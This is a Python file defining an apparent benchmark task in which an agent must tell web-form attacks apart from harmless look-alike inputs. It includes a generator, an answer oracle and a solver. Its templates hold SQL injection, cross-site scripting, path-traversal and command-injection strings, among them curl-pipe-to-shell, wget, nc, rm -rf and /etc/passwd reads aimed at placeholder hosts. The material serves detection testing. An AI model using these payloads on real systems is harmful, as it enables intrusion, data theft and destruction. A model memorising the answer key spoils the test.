"""Ask which of some inputs to a web form are attacks."""

from __future__ import annotations

import re
from collections.abc import Mapping
from random import Random
from urllib.parse import quote, unquote

from shared.vocabulary import Category, Level
from workers.agents.solution import Solution
from workers.custody.families.named_ids import draw_ids, offered, offers, score_ids
from workers.grading.cheats import Cheat, picks
from workers.grading.family import Score
from workers.grading.item import Item, dice

#: How many inputs, how many kinds of attack, and how often everything is percent-encoded.
SHAPES = {
    Level.BASIC: (4, 1, 0),
    Level.INTERMEDIATE: (4, 2, 0),
    Level.ADVANCED: (6, 3, 0),
    Level.EXPERT: (8, 4, 0),
    Level.MASTER: (8, 4, 1),
    Level.LEGENDARY: (10, 4, 2),
}
#: Attacks of each kind, each beside a harmless twin with much the same signs and words.
PAIRS = {
    "SQL injection": (
        ("{name}' OR {number}={number} --", "{name}'s = {number}, OR so --"),
        ("{number}; DROP TABLE {thing}s; --", "{number}; drop the {thing}s; thanks"),
        ("x' UNION SELECT password FROM {thing}s --", "The UNION will SELECT a {thing} FROM {number}"),
        ("{name}'; UPDATE {thing}s SET price=0; --", "{name}'s UPDATE: SET the {thing} price to {number}"),
        ("{name}' AND SLEEP({number}) AND '1'='1", "{name}'s '{thing}' AND SLEEP ({number} hours)"),
        (
            "'; DELETE FROM {thing}s WHERE {number}={number}; --",
            "Please DELETE {number} {thing}s FROM {name}'s list",
        ),
    ),
    "cross-site scripting": (
        ("<script>alert({number})</script>", "A script (alert {number}) for {name}"),
        ("<img src=x onerror=alert({number})>", "An img, no src: error alert {number} < {thing}"),
        ("<svg onload=fetch('//{thing}.test')>", "<3 your svg, load it for the {thing}"),
        ("<a href='javascript:alert({number})'>{thing}</a>", "A book on javascript: {thing}, {number} pages"),
        ("'><script src=//{thing}.test></script>", "-> see the script at {thing}.test"),
        ("<body onpageshow=alert({number})>", "The body of a page: {number} > {thing}"),
    ),
    "path traversal": (
        ("../../../../etc/{thing}", "docs/etc/{thing}/{number}"),
        ("..\\..\\windows\\{thing}.ini", "new\\windows\\{thing}.ini"),
        ("/static/../../{thing}.key", "/static/{number}/{thing}.key"),
        ("....//....//var/{thing}.log", "wait.... // var. {thing}, {number}"),
        ("images/../../../root/{thing}", "images/root/{thing}..{number}"),
        ("{thing}.png/../../../../{name}/secret", "{thing}.png/{number}/{name}/secret..."),
    ),
    "command injection": (
        ("{thing}.txt; cat /etc/passwd", "{thing}, a cat; {number} passwords"),
        ("$(curl {thing}.test | sh)", "${number} (for the curls), sh..."),
        ("`rm -rf /srv/{thing}`", "'{thing}': farm in /srv"),
        ("{thing}.txt && wget {name}.test/x", "{thing}.txt & {name} get {number} tests"),
        ("{name} | nc {thing}.test {number}", "{name} | {thing} | no. {number}"),
        ("{number} & shutdown -h now &", "{number} & {name} shut it down now"),
    ),
}
NAMES = (
    *("Anna", "Boris", "Carla", "Elena", "Farid", "Greta"),
    *("Hugo", "Jonas", "Marta", "Omar", "Paula", "Vera"),
)
THINGS = ("invoice", "report", "order", "ticket", "budget", "ledger", "parcel", "survey", "user", "photo")
QUESTION = re.compile(r"These texts were typed into a web form\. Some are attacks \(([a-zSQL, -]+)\)")
SLOTS = {"name": "[A-Z][a-z]+", "thing": "[a-z]+", "number": "[0-9]+"}


def _pattern(attack: str) -> str:
    """Return the pattern of what ``attack`` becomes when its slots are filled."""
    slot = re.compile(r"\{(name|thing|number)\}")
    return "".join(
        SLOTS[part] if place % 2 else re.escape(part) for place, part in enumerate(slot.split(attack))
    )


ATTACKS = re.compile("|".join(_pattern(attack) for pairs in PAIRS.values() for attack, _ in pairs))


class Payloads:
    """Inputs of which some are attacks; the work is the inputs, times the kinds, times the readings.

    Measures whether an agent knows an attack by what it would do, not by its signs: every attack has a harmless
    twin with much the same. A level adds inputs, kinds of attack, and layers of percent-encoding to be
    peeled, each of which is one more reading. The idea is the job of a web application firewall and its
    test sets (OWASP's Core Rule Set). A blind pick out of four earns 1/4, which is the floor.
    """

    name = "payloads"
    version = "1"
    category = Category.SECURITY
    floor = 0.25
    offers_answer = True

    def generate(self, level: Level, seed: int) -> Item:
        """Return the inputs of ``level`` and ``seed``; one to half of them are attacks."""
        rng = dice(self.name, self.version, level, seed)
        count, kind_count, layers = SHAPES[level]
        kinds = rng.sample(list(PAIRS), kind_count)
        ids = draw_ids(rng, count)
        attacks = set(rng.sample(ids, rng.randint(1, count // 2)))
        pairs = rng.sample([pair for kind in kinds for pair in PAIRS[kind]], count)
        texts = [
            _input(rng, pair[name not in attacks], layers) for name, pair in zip(ids, pairs, strict=True)
        ]
        return Item(
            family=self.name,
            family_version=self.version,
            level=level,
            seed=seed,
            prompt=(
                f"These texts were typed into a web form. Some are attacks ({', '.join(kinds)}), the others "
                f"are harmless.\n{offers(ids, texts)}\nWhich are attacks? Answer with their ids only."
            ),
            work=count * kind_count * (1 + layers),
            target=" ".join(sorted(attacks)),
        )

    def oracle(self, item: Item) -> str:
        """Return the ids of the attacks."""
        return item.target

    def cheats(self) -> Mapping[str, Cheat]:
        """Return the ways to pick ids blindly."""
        return picks(lambda prompt: list(offered(prompt)))

    def verify(self, item: Item, answer: str) -> Score:
        """Score the share of the attacks found, less the inputs named wrongly.

        >>> family = Payloads(); item = family.generate(Level.EXPERT, 0)
        >>> [family.verify(item, text).value for text in (f"{item.target}.", item.prompt, "none")]
        [1.0, 0.0, 0.0]
        """
        return score_ids(answer, item.target, texts=offered(item.prompt))


def solve(prompt: str) -> Solution | None:
    """Return the ids of the attacks, and the work; ``None`` for another prompt."""
    match = QUESTION.match(prompt)
    if match is None:
        return None
    texts = {name: _peeled(text) for name, text in offered(prompt).items()}
    attacks = sorted(name for name, (text, _) in texts.items() if ATTACKS.fullmatch(text))
    readings = 1 + max(layers for _, layers in texts.values())
    return Solution(" ".join(attacks), len(texts) * len(match[1].split(", ")) * readings)


def _input(rng: Random, form: str, layers: int) -> str:
    number = rng.randint(11, 99)
    text = form.format(name=rng.choice(NAMES), thing=rng.choice(THINGS), number=number)
    for _ in range(layers):
        text = quote(text, safe="")
    return text


def _peeled(text: str) -> tuple[str, int]:
    """Return ``text`` without its layers of percent-encoding, and how many there were."""
    layers = 0
    while (plain := unquote(text)) != text:
        text, layers = plain, layers + 1
    return text, layers
